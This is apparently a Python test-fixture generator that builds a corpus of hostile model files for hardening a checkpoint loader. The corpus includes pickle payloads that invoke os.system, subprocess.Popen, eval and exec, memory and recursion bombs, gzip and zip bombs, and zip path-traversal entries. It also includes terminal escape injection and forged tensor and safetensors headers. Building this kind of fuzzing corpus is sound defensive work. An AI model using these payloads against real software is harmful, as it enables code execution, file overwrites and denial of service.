"""Files made to do harm: to run something, to fill memory, to loop, to write elsewhere, to crash the reader."""

import gzip
import io
import json
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np

MAGIC_ALONE = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
MAGIC = MAGIC_ALONE + pickle.dumps(1001, 2)
SYSTEM = pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)
COMMAND = "touch ganviz-ran-it"
MILLION = 1_000_000


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def name(module: str, qualified: str) -> bytes:
    return b"c" + f"{module}\n{qualified}\n".encode()


def call(module: str, qualified: str, *args: str) -> bytes:
    return name(module, qualified) + b"(" + b"".join(map(text, args)) + b"tR"


def legacy(body: bytes, keys: bytes = b"\x80\x02].", data: bytes = b"") -> bytes:
    return MAGIC + SYSTEM + b"\x80\x02" + body + b"." + keys + data


def zipped(body: bytes, method: int = zipfile.ZIP_STORED, **members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + body + b".")
        for key, value in members.items():
            archive.writestr(f"archive/data/{key}", value)
    return out.getvalue()


def storage(key: str, numel: bytes, kind: str = "FloatStorage") -> bytes:
    """A persistent id of a storage that claims so many numbers."""
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + numel + b"tQ"


def tensor(stored: bytes, offset: bytes, shape: bytes, stride: bytes) -> bytes:
    return name("torch._utils", "_rebuild_tensor_v2") + b"(" + stored + offset + shape + stride + b"\x89}tR"


def whole(number: int) -> bytes:
    raw = number.to_bytes(17, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def payloads() -> Iterator[tuple[str, bytes]]:
    """Bodies of pickles that would run something if they were unpickled."""
    yield "os-system", call("os", "system", COMMAND)
    yield "posix-system", call("posix", "system", COMMAND)
    yield "popen", name("subprocess", "Popen") + b"(](" + text("touch") + text("ganviz-ran-it") + b"etR"
    yield "eval", call("builtins", "eval", "open('ganviz-ran-it','w')")
    yield "exec", call("__builtin__", "exec", "open('ganviz-ran-it','w')")
    yield "getattr", name("builtins", "getattr") + b"(" + name("os", "path") + text("os") + b"tR"
    yield "inst", b"(" + text(COMMAND) + b"ios\nsystem\n"
    yield "obj", b"(" + name("os", "system") + text(COMMAND) + b"o"
    yield "newobj", name("os", "system") + text(COMMAND) + b"\x85\x81"
    yield "newobj-ex", name("os", "system") + text(COMMAND) + b"\x85}\x92"
    yield "stack-global", text("os") + text("system") + b"\x93" + text(COMMAND) + b"\x85R"
    yield "dotted", text("torch") + text("os.system") + b"\x93" + text(COMMAND) + b"\x85R"
    yield "partial", name("functools", "partial") + b"(" + name("os", "system") + text(COMMAND) + b"tR)R"
    yield "build", name("os", "system") + b")\x81}" + text("__setstate__") + name("os", "system") + b"sb"
    yield "reconstructor", name("copyreg", "_reconstructor") + b"(" + name("os", "system") + text(COMMAND) + b"NtR"
    yield "new-of-name", name("copyreg", "__newobj__") + b"(" + name("os", "system") + text(COMMAND) + b"tR"
    yield "torch-load", call("torch", "load", "/etc/passwd")
    yield "numpy-load", call("numpy", "load", "/etc/passwd")
    yield "hub", call("torch.hub", "load", "somebody/something", "entry")
    yield "as-storage", tensor(call("os", "system", COMMAND), b"K\x00", b"K\x01\x85", b"K\x01\x85")
    yield "as-key", b"}" + call("os", "system", COMMAND) + b"Ns"
    yield "persistent-id", call("os", "system", COMMAND) + b"Q"
    source = "import os; os.system('touch ganviz-ran-it')"
    meta = {"type": "class", "version": 6, "module_src": source, "class_name": "Generator", "state": {}}
    body = pickle.dumps(meta, 2)[2:-1]
    yield "persistence", name("torch_utils.persistence", "_reconstruct_persistent_obj") + b"(" + body + b"tR"
    inner = legacy(call("os", "system", COMMAND))
    for depth in range(1, 5):
        nested = b"B" + struct.pack("<I", len(inner)) + inner
        yield f"load-from-bytes-{depth}", name("torch.storage", "_load_from_bytes") + nested + b"\x85R"
        inner = legacy(name("torch.storage", "_load_from_bytes") + nested + b"\x85R")


def corpus() -> Iterator[tuple[str, bytes]]:
    """Every hostile file: (name, bytes)."""
    for key, body in payloads():
        inside = b"}" + text("g_ema") + b"}" + text("w") + body + b"ss"
        yield f"run-{key}.pkl", b"\x80\x02" + body + b"."
        yield f"run-{key}-inside.pkl", b"\x80\x04" + inside + b"."
        yield f"run-{key}.zip.pt", zipped(inside)
        yield f"run-{key}.legacy.pt", legacy(inside)
    yield from _memory()
    yield from _claims()
    yield from _zips()
    yield from _safetensors()


def _memory() -> Iterator[tuple[str, bytes]]:
    start = b"\x80\x04"
    known = name("a", "b") + b"\x94"
    yield "lists.pkl", start + b"]\x94" * 400_000
    yield "records.pkl", start + known + b"h\x00)R\x94" * 50_000
    yield "texts.pkl", start + b"\x8c\x02ab\x94" * MILLION
    yield "memo.pkl", start + b"N" + b"\x94" * 2 * MILLION
    yield "memo-index.pkl", start + b"N" + b"r\xff\xff\xff\xff" * 3 + b"."
    yield "memo-line.pkl", b"(Np99999999999999999999\n."
    long = b"X" + struct.pack("<I", 60_000) + b"a" * 60_000 + b"\x94"
    yield "long-names.pkl", start + long + b"h\x00h\x00\x93" * 100_000 + b"."
    yield "many-names.pkl", start + b"".join(b"\x8c\x04%04x\x8c\x01a\x93" % k for k in range(60_000)) + b"."
    short = b"X" + struct.pack("<I", 60_000) + b"a" * 60_000 + b"\x94"
    latin = name("_codecs", "encode") + b"\x94" + text("latin1") + b"\x94"
    yield "encode-short.pkl", start + short + latin + b"h\x01h\x00h\x02\x86R" * 100_000 + b"."
    yield "marks.pkl", start + b"(" * MILLION
    yield "deep-lists.pkl", start + b"]" * 100_000 + b"a" * 99_999 + b"."
    yield "deep-tuples.pkl", start + b"N" + b"\x85" * 100_000 + b"."
    yield "deep-tuple-as-key.pkl", start + b"}N" + b"\x85" * 100_000 + b"Ns."
    yield "wide-tuple-as-key.pkl", start + b"}N" + b"2\x86" * 100 + b"Ns."
    yield (
        "laughs.pkl",
        start + b"]" + b"".join(b"\x94]h" + bytes([k]) + b"a" + b"h" + bytes([k]) + b"a" for k in range(200)),
    )
    doubled = b"]" + b"".join(b"\x94]h" + bytes([k]) + b"a" + b"h" + bytes([k]) + b"a" for k in range(40))
    yield "laughs-as-protocol.legacy.pt", MAGIC_ALONE + start + doubled + b"."
    config = text("config") + b"}" + text("leakyReluLeak") + doubled + b"s"
    yield "laughs-as-setting.pkl", start + b"}(" + config + text("netG") + b"}" + text("x") + b"K\x01s" + b"u."
    escape = "\x1b]0;owned\x07\n\x1b[2J"
    strange = b"\x80\x02}(" + text(f"w{escape}") + name("torch", f"Size{escape}".replace("\n", " ")) + b")Ru."
    yield "escapes.pkl", strange
    yield "escapes-as-name.pkl", start + text(f"os{escape}") + text("system") + b"\x93)R."
    yield "cycle.pkl", start + b"]\x94h\x00a."
    yield "cycle-dict.pkl", start + b"}\x94" + text("g_ema") + b"h\x00s."
    modules = text("_modules") + b"}" + text("child") + b"h\x00" + b"ss"
    yield "cycle-modules.pkl", start + name("m", "G") + b")\x81\x94}" + modules + b"b."
    twice = b""
    for k in range(60):  # every module twice in the next: 2^60 by way of names
        children = (
            b"" if k == 0 else text("a") + b"h" + bytes([k - 1]) + b"s" + text("b") + b"h" + bytes([k - 1]) + b"s"
        )
        twice += name("m", "G") + b")\x81\x94}" + text("_modules") + b"}" + children + b"sb0"
    yield "module-laughs.pkl", start + twice + b"h\x3b."
    yield "long-integer.pkl", start + b"\x8b\xff\xff\xff\x7f" + b"\x01" * 1000 + b"."
    yield "long-integer-line.pkl", b"(I" + b"9" * 4000 + b"\n."
    yield "long-bytes.pkl", start + b"\x8e" + struct.pack("<Q", 1 << 62) + b"x."
    yield "long-text.pkl", start + b"\x8d" + struct.pack("<Q", 1 << 62) + b"x."
    yield "long-frame.pkl", start + b"\x95" + struct.pack("<Q", 1 << 62) + b"N."
    yield "lines.pkl", b"(" + (b"V" + b"a" * 5000 + b"\n") * 8000 + b"t."
    four = "\U0001f600".encode() * (5 << 20)
    yield "wide-text.pkl", start + b"X" + struct.pack("<I", len(four)) + four + b"."
    yield "same-text.pkl", start + b"X" + struct.pack("<I", 1 << 16) + b"a" * (1 << 16) + b"\x94" + b"h\x00" * 200_000
    latin = "\xe9".encode() * (4 << 20)
    encode = (
        name("_codecs", "encode")
        + b"\x94X"
        + struct.pack("<I", len(latin))
        + latin
        + b"\x94"
        + text("latin1")
        + b"\x94"
    )
    yield "encode.pkl", start + encode + b"h\x00h\x01h\x02\x86R" * 2000 + b"."
    state = b"}\x94(" + b"".join(b"K" + bytes([k % 256]) + b"N" for k in range(400_000)) + b"u"
    yield "states.pkl", start + state + name("a", "b") + b")\x81\x94" + b"h\x01h\x00}\x86b" * 100_000
    yield "gzip-bomb.pkl.gz", gzip.compress(bytes(96 << 20), 9)
    yield "gzip-in-gzip.gz", gzip.compress(gzip.compress(b"\x80\x02N."))
    yield "gzip-cut.gz", gzip.compress(np.random.RandomState(0).bytes(100_000))[:50_000]


def _claims() -> Iterator[tuple[str, bytes]]:
    one = np.ones(64, np.float32).tobytes()

    def net(first: bytes) -> bytes:
        """A state dict that passes for a DCGAN by its keys, with `first` as its first weight."""
        small = tensor(storage("0", b"K\x40"), b"K\x00", b"(K\x04K\x03K\x02K\x02t", b"(K\x0cK\x04K\x02K\x01t")
        bias = tensor(storage("0", b"K\x40"), b"K\x00", b"K\x03\x85", b"K\x01\x85")
        last = text("main.3.weight") + small + text("main.3.bias") + bias
        return b"}(" + text("main.0.weight") + first + last + b"u"

    huge = whole(1 << 60)
    claims = {
        "storage": tensor(storage("1", huge), b"K\x00", b"(K\x04K\x04K\x02K\x02t", b"(K\x10K\x04K\x02K\x01t"),
        "negative": tensor(storage("1", whole(-5)), b"K\x00", b"(K\x04K\x04K\x02K\x02t", b"(K\x10K\x04K\x02K\x01t"),
        "shape": tensor(storage("0", b"K\x40"), b"K\x00", b"(" + huge + b"K\x04K\x02K\x02t", b"(K\x10K\x04K\x02K\x01t"),
        "wide": tensor(
            storage("0", b"K\x40"), b"K\x00", b"(J\x00\x00\x01\x00K\x04K\x04K\x04t", b"(K\x40K\x10K\x04K\x01t"
        ),
        "stride": tensor(
            storage("0", b"K\x40"), b"K\x00", b"(J\x00\x00\x01\x00K\x04K\x02K\x02t", b"(K\x00K\x00K\x00K\x00t"
        ),
        "offset": tensor(storage("0", b"K\x40"), huge, b"(K\x04K\x04K\x02K\x02t", b"(K\x10K\x04K\x02K\x01t"),
        "dimensions": tensor(
            storage("0", b"K\x40"), b"K\x00", b"(" + b"K\x01" * 99 + b"t", b"(" + b"K\x01" * 99 + b"t"
        ),
        "kind": tensor(
            storage("0", b"K\x40", "EvilStorage"), b"K\x00", b"(K\x04K\x04K\x02K\x02t", b"(K\x10K\x04K\x02K\x01t"
        ),
    }
    for key, first in claims.items():
        yield f"claim-{key}.zip.pt", zipped(net(first), **{"0": one, "1": one})
        keys = pickle.dumps(["0"], 2)
        yield f"claim-{key}.legacy.pt", legacy(net(first), keys, struct.pack("<q", 64) + one)
    yield "claim-keys.legacy.pt", legacy(net(claims["wide"]), pickle.dumps(["0"], 2), struct.pack("<q", 1 << 61) + one)
    alias = b"}("
    for k in range(30):  # one storage under many names
        alias += text(f"main.{k}.weight") + tensor(
            storage("0", whole(1 << 20)),
            b"K\x00",
            b"(J\x00\x02\x00\x00J\x00\x02\x00\x00K\x02K\x02t",
            b"(J\x00\x08\x00\x00K\x04K\x02K\x01t",
        )
    last = tensor(storage("1", whole(6144)), b"K\x00", b"(M\x00\x02K\x03K\x02K\x02t", b"(K\x0cK\x04K\x02K\x01t")
    alias += text("main.30.weight") + last + b"u"
    yield "claim-aliases.zip.pt", zipped(alias, **{"0": bytes(4 << 20), "1": bytes(4 * 6144)})
    objects = pickle.dumps({"main.0.weight": np.array([[[[object]]]], dtype=object)}, 2)
    yield "objects.pkl", objects
    array = pickle.dumps({"w": np.zeros(4, np.float32)}, 2)
    yield "numpy-shape.pkl", array.replace(b"K\x04\x85", b"J\xff\xff\xff\x7f\x85")


def _zips() -> Iterator[tuple[str, bytes]]:
    good = zipped(b"}")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + b"]" * (96 << 20))
    yield "zip-bomb.pt", bomb.getvalue()
    packed = zlib.compressobj(9, wbits=-15)
    squeezed = packed.compress(bytes(96 << 20)) + packed.flush()
    header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(squeezed), 100, 16, 0) + b"archive/data.pkl"
    entry = (
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(squeezed), 100, 16, 0, 0, 0, 0, 0, 0)
        + b"archive/data.pkl"
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(entry), len(header) + len(squeezed), 0)
    yield "zip-liar.pt", header + squeezed + entry + end
    small = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0, 0, 0)
    many = b"PK\x03\x04" + b"".join(small + struct.pack("<I", k) for k in range(150_000))
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(many) - 4, 4, 0)
    yield "zip-many.pt", many + end
    for key, member in (("up", "../../ganviz-ran-it"), ("root", "/tmp/ganviz-ran-it"), ("drive", "C:\\ganviz-ran-it")):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(f"{member}/data.pkl", b"\x80\x02}.")
            archive.writestr(member, b"written outside")
        yield f"zip-path-{key}.pt", out.getvalue()
    yield "zip-storage-path.pt", zipped(b"}" + text("w") + storage("../data.pkl", b"K\x01") + b"s")
    yield "zip-huge-offsets.pt", good[:-6] + b"\xff\xff\xff\xff" + good[-2:]
    yield "zip-no-end.pt", good[:-22]
    yield "zip-torchscript.pt", zipped(b"}").replace(b"archive/data.pkl", b"archive/code/a.p")
    yield "zip-names.pt", good.replace(b"archive/data.pkl", b"\x1b[2J\r\n\x07\x00 data.p")
    yield "zip-itself.pt", b"PK\x03\x04" + good


def _safetensors() -> Iterator[tuple[str, bytes]]:
    def file(header: bytes, body: bytes = bytes(64), length: int | None = None) -> bytes:
        return struct.pack("<Q", len(header) if length is None else length) + header + body

    def entry(**changed: object) -> bytes:
        said = {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64], **changed}
        return json.dumps({"main.0.weight": said}).encode()

    yield "safe-length.safetensors", file(entry(), length=1 << 62)
    yield "safe-deep.safetensors", file(b'{"a":' * 100_000)
    yield "safe-lists.safetensors", file(b'{"a":' + b"[" * 500_000)
    yield "safe-digits.safetensors", file(b'{"a":' + b"9" * 100_000 + b"}")
    yield "safe-many.safetensors", file(b"{" + b",".join(b'"%d":{}' % k for k in range(300_000)) + b"}")
    yield "safe-offsets.safetensors", file(entry(data_offsets=[0, 1 << 60]))
    yield "safe-negative.safetensors", file(entry(data_offsets=[-64, 0]))
    yield "safe-shape.safetensors", file(entry(shape=[1 << 40, 1 << 40]))
    yield "safe-dimensions.safetensors", file(entry(shape=[1] * 100_000))
    yield "safe-type.safetensors", file(entry(dtype="OBJ"))
    yield "safe-list.safetensors", file(b"[1, 2]")
    yield "safe-none.safetensors", file(b'{"a":null}')
